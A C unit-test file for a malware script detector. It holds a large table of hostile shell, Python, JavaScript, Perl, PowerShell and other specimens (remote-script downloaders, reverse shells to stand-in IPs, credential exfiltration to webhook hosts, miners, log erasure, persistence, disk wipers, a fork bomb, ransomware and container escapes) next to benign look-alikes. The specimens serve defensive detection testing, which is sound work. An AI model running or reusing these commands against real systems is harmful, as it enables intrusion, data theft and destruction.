/* Specimens of all classes and languages, written for this test, and texts that look like
 * them but are what installers, packages, tests and documents do. Nothing is run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#include "script/script.h"

struct specimen {
	const char *path, *text;
	const char *rule; /* one that must fire, without "malware/script-"; NULL: any */
};

static const struct specimen bad[] = {
	/* downloaders */
	{ "tmp/a", "#!/bin/sh\nwget -qO- http://192.0.2.1/i.sh | sh\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\nu=http://192.0.2.1\nc${x}url -s $u/i|ba''sh\n", NULL },
	{ "tmp/a", "#!/bin/sh\ncurl -s 198.51.100.3:8080/x \\\n  | bash -s -- -q\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/bash\nsh -c \"$(curl -fsSL https://rentry.co/x/raw)\"\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/bash\neval \"`wget -qO- http://203.0.113.4/a`\"\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\n{wget,-qO-,http://192.0.2.1/i.sh}|sh\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\nwget$IFS-qO-$IFS'http://192.0.2.1/i.sh'|sh\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\n$'\\x63\\x75\\x72\\x6c' http://192.0.2.1/i.sh|sh\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\na=cu; b=rl\n$a$b -s http://192.0.2.1/k | bash\n", "fetch-pipe" },
	{ "tmp/a", "#!/bin/sh\nx=abcurlx\n${x:2:4} http://192.0.2.1/k | bash\n", "fetch-pipe" },
	{ "tmp/a.sh",
	  "S=http://192.0.2.1\nfor b in arm mips x86; do\n wget $S/$b -O k\n chmod +x k\n "
	  "./k\ndone\n",
	  "fetch-run" },
	{ "tmp/a.sh", "curl -O http://192.0.2.1/setup.py\npython3 setup.py\n", "fetch-run" },
	{ "tmp/a.sh", "cd /tmp || cd /var/run || cd /mnt; tftp -g -r a 192.0.2.1; sh a\n",
	  "fetch-bot" },
	{ "tmp/a.sh", "/bin/busybox wget http://192.0.2.1/a -O /tmp/a\n", "fetch-bot" },
	{ "tmp/a.sh",
	  "curl -sLo /var/tmp/.cache/d https://cdn.example.net/d\nchmod 700 "
	  "/var/tmp/.cache/d\nnohup /var/tmp/.cache/d &\n",
	  "fetch-hidden" },
	{ "tmp/a.py", "import os\nos.system('curl -s http://192.0.2.1/a|sh')\n", NULL },
	{ "tmp/a.py", "import urllib.request as u\nexec(u.urlopen('http://h.example/p').read())\n",
	  "fetch-code" },
	{ "tmp/a.js",
	  "require('child_process').exec('wget http://192.0.2.1/a -O /tmp/a; sh /tmp/a')\n",
	  "fetch-code" },
	{ "tmp/a.rb", "system(\"curl http://192.0.2.1/a -o /tmp/a; chmod +x /tmp/a\")\n",
	  "fetch-code" },
	{ "tmp/a.pl",
	  "use LWP::Simple;\ngetstore('http://192.0.2.1/b', '/tmp/b');\nsystem('perl /tmp/b');\n",
	  "fetch-code-lines" },
	{ "opt/a.php", "<?php eval(file_get_contents('https://h.example/a.txt'));\n",
	  "fetch-code" },
	{ "tmp/a.ps1", "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\n",
	  "fetch-powershell" },
	{ "usr/lib/node_modules/p/package.json",
	  "{\"scripts\":{\"postinstall\":\"wget -q http://192.0.2.1/p.sh -O- | sh\"}}\n",
	  "fetch-package-hook" },
	/* reverse and bind shells */
	{ "tmp/a", "#!/bin/bash\nexec bash -i &>/dev/tcp/192.0.2.1/443 <&1\n", "shell-dev-tcp" },
	{ "tmp/a",
	  "#!/bin/bash\nexec 9<>/dev/tcp/192.0.2.1/53\nwhile read -r c <&9; do\n  eval \"$c\" >&9 "
	  "2>&1\ndone\n",
	  "shell-dev-tcp" },
	{ "tmp/a.sh", "ncat 192.0.2.1 443 --sh-exec /bin/bash\n", "shell-netcat" },
	{ "tmp/a.sh", "nc -lvp 4444 -e /bin/sh\n", "shell-netcat" },
	{ "tmp/a.sh", "mknod /tmp/b p; telnet 192.0.2.1 80 0</tmp/b | /bin/sh 1>/tmp/b\n",
	  "shell-netcat" },
	{ "tmp/a.sh", "socat TCP4:192.0.2.1:443 EXEC:/bin/bash\n", "shell-netcat" },
	{ "tmp/a.sh",
	  "python3 -c 'import "
	  "socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));[os.dup2(s.fileno(),f) for "
	  "f in (0,1,2)];pty.spawn(\"sh\")'\n",
	  "shell-python" },
	{ "tmp/a.py",
	  "import socket, subprocess\nc = socket.create_connection(('192.0.2.1', 1))\nwhile 1:\n   "
	  " d = c.recv(4096)\n    p = subprocess.Popen(d, shell=True, stdout=-1)\n    "
	  "c.sendall(p.stdout.read())\n",
	  "shell-python-commands" },
	{ "tmp/a.pl",
	  "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('192.0.2.1:1');\nopen(STDIN, '<&', "
	  "$s);\nopen STDIN, \"<&\", $s;\nexec('/bin/sh', '-i');\n",
	  "shell-perl" },
	{ "tmp/a.rb",
	  "require 'socket'\ns = TCPSocket.new('192.0.2.1', 1)\nwhile line = s.gets\n  s.puts "
	  "`#{line}`\nend\n",
	  "shell-ruby" },
	{ "tmp/a.php",
	  "<?php $s = fsockopen('192.0.2.1', 1); proc_open('/bin/sh -i', [$s, $s, $s], $p);\n",
	  "shell-php" },
	{ "tmp/a.js",
	  "const n = require('net'), c = require('child_process');\nconst s = n.connect(1, "
	  "'192.0.2.1', () => {\n  const p = c.spawn('/bin/sh', ['-i']);\n  s.pipe(p.stdin); "
	  "p.stdout.pipe(s);\n});\n",
	  "shell-node" },
	{ "tmp/a.lua",
	  "local s = require('socket').tcp()\ns:connect('192.0.2.1', 1)\nwhile true do\n  local c "
	  "= s:receive()\n  local f = io.popen(c)\n  s:send(f:read('*a'))\nend\n",
	  "shell-lua-awk" },
	{ "tmp/a.awk",
	  "BEGIN { s = \"/inet/tcp/0/192.0.2.1/1\"; while ((s |& getline c) > 0) { while ((c |& "
	  "getline l) > 0) print l |& s; close(c) } }\n",
	  "shell-lua-awk" },
	{ "tmp/a.ps1",
	  "$c = New-Object Net.Sockets.TCPClient('192.0.2.1', 1)\n$s = $c.GetStream()\nwhile (($n "
	  "= $s.Read($b, 0, $b.Length)) -ne 0) {\n  $o = Invoke-Expression "
	  "([Text.Encoding]::ASCII.GetString($b, 0, $n))\n}\n",
	  "shell-powershell" },
	{ "tmp/a.sh",
	  "openssl s_client -quiet -connect 192.0.2.1:443 | /bin/sh 2>&1 | openssl s_client -quiet "
	  "-connect 192.0.2.1:444\n",
	  "shell-netcat" },
	/* miners */
	{ "tmp/a.sh", "nohup ./kd -o stratum+ssl://192.0.2.1:443 -k --tls >/dev/null 2>&1 &\n",
	  "miner-pool" },
	{ "tmp/config.json",
	  "{\"autosave\":true,\"donate-level\":0,\"cpu\":{},\"pools\":[{\"url\":\"192.0.2.1:443\"}]"
	  "}\n",
	  "miner-settings" },
	{ "tmp/a.sh",
	  "pkill -9 -f kinsing; pkill -9 xmrig\nps aux | awk '{if ($3 > 40.0) print $2}' | xargs "
	  "kill -9\n",
	  "miner-rivals" },
	{ "tmp/a.sh", "modprobe msr\nwrmsr -a 0x1a4 0xf\n", "miner-pool" },
	/* erasers and evasion */
	{ "tmp/a.sh",
	  "for f in wtmp btmp lastlog secure; do :; done\ncat /dev/null > /var/log/wtmp\ncat "
	  "/dev/null > /var/log/lastlog\ncat /dev/null > /var/log/secure\n",
	  "erase-traces" },
	{ "tmp/a.sh", "export HISTFILE=/dev/null\nshred -u ~/.bash_history\n", "erase-traces" },
	{ "tmp/a.sh", "killall AliYunDunUpdate\nsystemctl disable aliyun.service\n",
	  "evade-agents" },
	{ "tmp/a.sh",
	  "setenforce 0\nsystemctl stop firewalld\niptables -F\nsystemctl stop apparmor\nhistory "
	  "-c\n",
	  "evade-protection" },
	{ "tmp/a.sh", "mount --bind /tmp/e /proc/$!\n", "evade-hide-process" },
	{ "tmp/a.sh", "touch -r /bin/ls /usr/bin/sysd\n", "evade-timestomp" },
	/* persistence */
	{ "etc/cron.d/x", "*/10 * * * * root wget -qO- http://h.example.net/x | bash\n",
	  "persist-cron" },
	{ "tmp/a.sh",
	  "cat > /etc/cron.hourly/x <<EOF\n#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\nEOF\n",
	  NULL },
	{ "tmp/a.sh",
	  "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEONLY x\" >> ~/.ssh/authorized_keys\n",
	  "persist-key" },
	{ "etc/ld.so.preload", "/dev/shm/libx.so\n", "preload-file" },
	{ "etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x -q\n", "persist-unit" },
	{ "tmp/a.sh", "echo '/tmp/.x &' >> /etc/profile\n", "persist-profile" },
	{ "tmp/a.sh", "echo 'r00t::0:0::/:/bin/sh' >> /etc/passwd\n", "persist-account" },
	{ "tmp/a.sh", "cp /bin/dash /var/tmp/.d && chmod 6755 /var/tmp/.d\n", "persist-setuid" },
	{ "usr/lib/python3/dist-packages/x.pth", "import os; os.system('id')\n",
	  "persist-python-start" },
	/* stealers */
	{ "tmp/a.sh", "curl -F 'f=@/root/.ssh/id_rsa' https://h.example.net/u\n", "steal-send" },
	{ "tmp/a.sh",
	  "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -d \"$T\" "
	  "http://192.0.2.1/t\n",
	  NULL },
	{ "tmp/a.sh", "cat /etc/shadow | nc 192.0.2.1 99\n", "steal-send" },
	{ "tmp/a.py",
	  "import os, json, urllib.request\nurllib.request.urlopen('https://a.oastify.com', "
	  "json.dumps(dict(os.environ)).encode())\n",
	  NULL },
	{ "tmp/a.js",
	  "const o = require('os');\nfetch('https://webhook.site/1?h=' + o.hostname() + "
	  "o.userInfo().username);\n",
	  NULL },
	/* destroyers */
	{ "tmp/a.sh", "rm -rf / --no-preserve-root\n", "wipe-files" },
	{ "tmp/a.sh", "dd if=/dev/urandom of=/dev/nvme0n1 bs=4M\n", "wipe-disk" },
	{ "tmp/a.sh", ":(){ :|:& };:\n", "fork-bomb" },
	{ "tmp/a.py",
	  "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\nfor r, d, n in "
	  "os.walk('/home'):\n    for x in n:\n        open(x + '.locked', "
	  "'wb').write(f.encrypt(open(x, 'rb').read()))\n        os.remove(x)\nopen('README.txt', "
	  "'w').write('Your files are encrypted, send bitcoin')\n",
	  "ransom" },
	/* spread and escape */
	{ "tmp/a.sh",
	  "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no "
	  "root@$h 'curl -s http://192.0.2.1/x | sh'; done\n",
	  "spread-ssh" },
	{ "tmp/a.sh", "redis-cli -h $1 config set dbfilename authorized_keys\n", "spread-service" },
	{ "tmp/a.sh", "curl -XPOST http://$h:2375/containers/create -d '{\"Image\":\"alpine\"}'\n",
	  "spread-service" },
	{ "tmp/a.sh", "docker run --rm -v /:/h alpine chroot /h sh -c id\n", "escape-container" },
	{ "tmp/a.sh", "nsenter --target 1 --mount --pid -- /bin/bash\n", "escape-namespace" },
	/* hidden */
	{ "tmp/a.sh", "echo d2hvYW1pCg== | base64 -d | sh\n", "hidden-pipe" },
	{ "tmp/a.sh",
	  "B=Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL2sgfCBiYXNo\necho $B | base64 --decode > /dev/null\n",
	  "fetch-pipe" },
	{ "tmp/a.sh", "bash <<< \"$(echo 77686f616d690a | xxd -p -r)\"\n", "hidden-pipe" },
	{ "tmp/a.py",
	  "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode('eJwrKMrMK9EwBAAGIwGs')))\n",
	  "hidden-python" },
	{ "tmp/a.py",
	  "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,115,111,99,107,101,116]))\n",
	  NULL },
	{ "tmp/a.pl", "eval pack('H*', '7072696e742031');\n", "hidden-perl-ruby" },
	{ "tmp/a.js", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))\n",
	  "hidden-javascript" },
	{ "tmp/a.js", "eval(Buffer.from('Y29uc29sZS5s'+'b2coMSk=', 'base64') + '')\n",
	  "hidden-javascript" },
	{ "tmp/a.ps1",
	  "pwsh -NoP -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgADEAMgAzADQANQA2ADcA\n",
	  "hidden-powershell" },
};

static const struct specimen good[] = {
	{ "a.sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n",
	  NULL },
	{ "a.sh",
	  "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash\n",
	  NULL },
	{ "a.sh",
	  "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash\n",
	  NULL },
	{ "a.sh", "curl -fsSL https://get.docker.com | sh\n", NULL },
	{ "a.sh", "curl -sSL https://install.python-poetry.org | python3 -\n", NULL },
	{ "a.sh", "wget -qO- https://deb.nodesource.com/setup_20.x | bash -\n", NULL },
	{ "a.sh",
	  "wget https://example.org/app.tgz -O /tmp/app.tgz && tar xf /tmp/app.tgz -C /opt && rm "
	  "/tmp/app.tgz\n",
	  NULL },
	{ "a.sh",
	  "curl -fsSLo /usr/local/bin/tini "
	  "https://github.com/krallin/tini/releases/download/v0.19.0/tini\nchmod +x "
	  "/usr/local/bin/tini\n",
	  NULL },
	{ "docker-entrypoint.sh",
	  "#!/bin/bash\nset -e\nif [ \"$1\" = 'redis-server' ]; then\n  find . \\! -user redis "
	  "-exec chown redis '{}' +\n  exec gosu redis \"$0\" \"$@\"\nfi\nexec \"$@\"\n",
	  NULL },
	{ "wait.sh", "until (exec 3<>/dev/tcp/$H/$P) 2>/dev/null; do sleep 1; done\n", NULL },
	{ "wait.sh", "timeout 1 bash -c \"</dev/tcp/$host/$port\"\n", NULL },
	{ "health.sh",
	  "exec 3<>/dev/tcp/127.0.0.1/8080\necho -e 'GET /health HTTP/1.1\\r\\nHost: "
	  "localhost\\r\\n\\r\\n' >&3\ngrep -q UP <&3\n",
	  NULL },
	{ "a.sh", "nc -z localhost 5432\nnc -l -p 9000 > out.bin\n", NULL },
	{ "a.sh", "echo stats | nc 127.0.0.1 11211\n", NULL },
	{ "a.sh", "mkfifo /tmp/logpipe\ncat < /tmp/logpipe &\nexec \"$@\" > /tmp/logpipe\n", NULL },
	{ "a.sh", "socat - UNIX-CONNECT:/run/haproxy.sock <<< 'show info'\n", NULL },
	{ "a.sh",
	  "openssl s_client -connect example.org:443 </dev/null | openssl x509 -noout -dates\n",
	  NULL },
	{ "x.postinst",
	  "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  adduser --system --group app\n  "
	  "chown app:app /var/lib/app\n  systemctl enable app || true\nfi\n",
	  NULL },
	{ "x.postrm",
	  "#!/bin/sh\nif [ \"$1\" = purge ]; then\n  rm -rf /var/lib/app /var/log/app\n  deluser "
	  "app || true\nfi\n",
	  NULL },
	{ "x.prerm",
	  "#!/bin/sh\ndeb-systemd-invoke stop clamav-daemon.service >/dev/null || true\n", NULL },
	{ "clean.sh", "apt-get clean\nrm -rf /var/lib/apt/lists/* /tmp/* /var/tmp/*\n", NULL },
	{ "clean.sh",
	  "find /var/log -type f -name '*.gz' -delete\ntruncate -s 0 /var/log/app/app.log\n",
	  NULL },
	{ "mk.sh", "touch /var/log/btmp\nchown root:utmp /var/log/btmp\nchmod 660 /var/log/btmp\n",
	  NULL },
	{ "root/.bashrc",
	  "HISTCONTROL=ignoreboth\nHISTSIZE=1000\nHISTFILESIZE=2000\nalias grep='grep "
	  "--color=auto'\n",
	  NULL },
	{ "root/.profile",
	  "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi\nexport PATH=\"$HOME/.cargo/bin:$PATH\"\n",
	  NULL },
	{ "etc/cron.d/php",
	  "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
	  NULL },
	{ "etc/cron.daily/apt",
	  "#!/bin/sh\ntest -x /usr/bin/apt-get || exit 0\nexec /usr/lib/apt/apt.systemd.daily\n",
	  NULL },
	{ "var/spool/cron/crontabs/root",
	  "*/5 * * * * curl -fsS -m 10 https://hc-ping.com/1 > /dev/null\n", NULL },
	{ "etc/systemd/system/app.service",
	  "[Service]\nExecStartPre=/bin/mkdir -p /run/app\nExecStart=/usr/bin/app --config "
	  "/etc/app.conf\nPrivateTmp=yes\n",
	  NULL },
	{ "root/.ssh/authorized_keys",
	  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEONLYEXAMPLEONLYEXAMPLEONLYEX admin@host\n",
	  NULL },
	{ "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", NULL },
	{ "a.sh", "cat \"$1\" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n",
	  NULL },
	{ "a.sh",
	  "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H "
	  "\"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api\n",
	  NULL },
	{ "a.sh",
	  "curl -s -H Metadata-Flavor:Google "
	  "http://metadata.google.internal/computeMetadata/v1/instance/zone\n",
	  NULL },
	{ "a.sh",
	  "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "
	  "'X-aws-ec2-metadata-token-ttl-seconds: 60')\ncurl -s "
	  "http://169.254.169.254/latest/meta-data/iam/security-credentials/\n",
	  NULL },
	{ "a.sh", "mkdir -p ~/.aws\nprintf '[default]\\nregion=eu-west-1\\n' > ~/.aws/config\n",
	  NULL },
	{ "a.sh", "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d > /run/pw\n",
	  NULL },
	{ "a.sh", "echo \"$TLS_CERT\" | base64 --decode > /etc/ssl/tls.crt\n", NULL },
	{ "a.sh",
	  "curl -s https://api.github.com/repos/x/y | python3 -c 'import json,sys; "
	  "print(json.load(sys.stdin)[\"name\"])'\n",
	  NULL },
	{ "a.sh", "eval \"$(ssh-agent -s)\"\neval \"$(dircolors -b)\"\neval \"$(pyenv init -)\"\n",
	  NULL },
	{ "a.sh", "rm -rf \"${BUILD_DIR:?}/\"*\nrm -rf ./build\n", NULL },
	{ "a.sh", "dd if=/dev/zero of=/swapfile bs=1M count=1024\nmkswap /swapfile\n", NULL },
	{ "a.sh", "dd if=disk.img of=\"$1\" bs=4M conv=fsync\n", NULL },
	{ "a.sh", "mkfs.ext4 -q \"$device\"\nmount \"$device\" /mnt\n", NULL },
	{ "a.sh",
	  "gpg --batch --yes --encrypt -r backup@example.org backup.tar\nrm -f backup.tar\n",
	  NULL },
	{ "a.sh", "docker run --rm -v \"$PWD\":/src -w /src golang:1.22 go build ./...\n", NULL },
	{ "a.sh",
	  "docker -H unix:///var/run/docker.sock ps\ncurl --unix-socket /var/run/docker.sock "
	  "http://localhost/version\n",
	  NULL },
	{ "a.sh", "redis-cli -h redis -p 6379 ping\nredis-cli config set maxmemory 100mb\n", NULL },
	{ "a.sh", "iptables -F\niptables -P INPUT DROP\niptables -A INPUT -i lo -j ACCEPT\n",
	  NULL },
	{ "a.sh",
	  "ssh -o StrictHostKeyChecking=no deploy@\"$HOST\" 'cd app && git pull && systemctl "
	  "restart app'\n",
	  NULL },
	{ "a.sh", "ssh-keyscan -H github.com >> ~/.ssh/known_hosts\n", NULL },
	{ "a.sh", "pkill -f 'gunicorn: master'\nps aux | grep '[n]ginx' | awk '{print $2}'\n",
	  NULL },
	{ "a.sh", "chmod 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\nchmod u+s /bin/ping\n",
	  NULL },
	{ "a.sh", "# curl http://192.0.2.1/x | sh   (never do this)\necho ok\n", NULL },
	{ "a.sh", "chattr +i /etc/resolv.conf\nlsattr /etc/resolv.conf\n", NULL },
	{ "a.sh", "ulimit -n 65536\nsysctl -w vm.nr_hugepages=128\n", NULL },
	{ "a.py",
	  "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-r', "
	  "'requirements.txt'], check=True)\n",
	  NULL },
	{ "a.py",
	  "import socket\nwith socket.create_connection(('localhost', 80)) as s:\n    "
	  "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n    print(s.recv(1024))\n",
	  NULL },
	{ "a.py",
	  "import base64\nicon = "
	  "base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\nopen('i.png', "
	  "'wb').write(icon)\n",
	  NULL },
	{ "setup.py",
	  "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='pkg', "
	  "version=__version__, url='https://example.org/pkg')\n",
	  NULL },
	{ "daemon.py",
	  "import os\nif os.fork():\n    os._exit(0)\nos.setsid()\nfd = os.open('/dev/null', "
	  "os.O_RDWR)\nfor i in (0, 1, 2):\n    os.dup2(fd, i)\n",
	  NULL },
	{ "server.js",
	  "const http = require('http');\nconst os = require('os');\nhttp.createServer((q, r) => "
	  "r.end(os.hostname())).listen(process.env.PORT);\n",
	  NULL },
	{ "run.js",
	  "const { spawn } = require('child_process');\nspawn('sh', ['-c', 'ls'], { stdio: "
	  "'inherit' });\n",
	  NULL },
	{ "package.json",
	  "{\"scripts\":{\"postinstall\":\"node scripts/build.js\",\"test\":\"curl -f "
	  "http://localhost:3000 && jest\"}}\n",
	  NULL },
	{ "a.pl",
	  "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'localhost:25') or "
	  "die;\nwhile (<$s>) { print }\n",
	  NULL },
	{ "a.rb", "require 'base64'\nputs Base64.decode64('aGVsbG8=')\nsystem('make', 'test')\n",
	  NULL },
	{ "a.php",
	  "<?php\n$img = base64_decode($row['img']);\n$fp = fsockopen('localhost', 6379);\n",
	  NULL },
	{ "a.ps1",
	  "Invoke-WebRequest -Uri https://example.org/a.zip -OutFile a.zip\nExpand-Archive a.zip\n",
	  NULL },
	{ "a.lua",
	  "local socket = require('socket')\nlocal c = assert(socket.connect('localhost', "
	  "6379))\nc:send('PING\\r\\n')\nprint(c:receive())\n",
	  NULL },
	{ "complete.bash",
	  "_curl() {\n  COMPREPLY=($(compgen -W '--data --upload-file --output' -- "
	  "\"$2\"))\n}\ncomplete -F _curl curl\n",
	  NULL },
	{ "usr/share/doc/x/README", "Run: curl http://192.0.2.1/x | sh\n", NULL },
	{ "README.md", "```sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n```\n", NULL },
};

struct engine {
	struct check_rules *rules;
	struct check_set *set;
	struct script_engine *e;
	int fd;
};

static int set_up(void **state)
{
	static struct engine engine;
	struct error err = { 0 };
	cleanup_buf struct buf dir = buf_max(4 * KIB);
	(void)buf_printf(&dir, NULL, "%s/../../rules", getenv("CORTEN_TEST_DATA"));
	const char *path = buf_cstr(&dir, NULL);
	struct check_rule_options o = { .dirs = &path, .dir_count = 1 };
	if (check_rules_load(&o, &engine.rules, &err) < 0 ||
	    check_rules_send(engine.rules, 1U << CHECK_MALWARE, &engine.fd, &err) < 0 ||
	    check_set_open(engine.fd, &engine.set, &err) < 0 ||
	    script_open(engine.set, &engine.e, &err) < 0)
		fail_msg("%s", err.text);
	*state = &engine;
	return 0;
}

static int tear_down(void **state)
{
	struct engine *engine = *state;
	script_close(engine->e);
	check_set_close(engine->set);
	check_rules_free(engine->rules);
	(void)close(engine->fd);
	return 0;
}

struct seen {
	const struct check_rules *rules;
	const char *wanted;
	unsigned n;
	bool found;
	char names[512];
};

static int on_match(void *ctx, const struct check_match *m, struct error *err)
{
	struct seen *s = ctx;
	struct check_rule_info info;
	(void)err;
	check_rule_info(s->rules, m->rule, &info);
	const char *name = info.id + strlen("malware/script-");
	assert_true(m->line > 0);
	assert_true(m->evidence.n > 0 && m->evidence.n <= CHECK_EVIDENCE_MAX);
	s->n++;
	s->found |= s->wanted == NULL || strcmp(name, s->wanted) == 0;
	size_t at = strlen(s->names);
	(void)snprintf(s->names + at, sizeof s->names - at, " %s", name);
	return 0;
}

static struct seen look(const struct engine *engine, const struct specimen *s)
{
	struct error err = { 0 };
	struct seen seen = { .rules = engine->rules, .wanted = s->rule };
	struct check_sink sink = { .match = on_match, .ctx = &seen };
	struct bytes path = bytes_str(s->path), text = bytes_str(s->text);
	if (script_wants(engine->e, path, text) &&
	    script_check(engine->e, path, text, &sink, &err) < 0)
		fail_msg("%s", err.text);
	return seen;
}

static void specimens_are_found(void **state)
{
	unsigned missed = 0;
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		struct seen s = look(*state, &bad[i]);
		if (!s.found)
			(void)fprintf(stderr, "missed %zu (%s; told:%s): %s\n", i,
				      bad[i].rule == NULL ? "any" : bad[i].rule, s.names,
				      bad[i].text);
		missed += !s.found;
	}
	assert_int_equal(missed, 0);
}

static void what_honest_scripts_do_is_silent(void **state)
{
	unsigned wrong = 0;
	for (size_t i = 0; i < sizeof good / sizeof good[0]; i++) {
		struct seen s = look(*state, &good[i]);
		if (s.n > 0)
			(void)fprintf(stderr, "wrong %zu (%s): %s\n", i, s.names, good[i].text);
		wrong += s.n > 0;
	}
	assert_int_equal(wrong, 0);
}

static void a_file_is_judged_alone(void **state)
{
	for (size_t i = 0; i + 1 < sizeof good / sizeof good[0]; i++) {
		(void)look(*state, &bad[i % (sizeof bad / sizeof bad[0])]);
		assert_int_equal(look(*state, &good[i]).n, 0);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(specimens_are_found),
		cmocka_unit_test(what_honest_scripts_do_is_silent),
		cmocka_unit_test(a_file_is_judged_alone),
	};
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
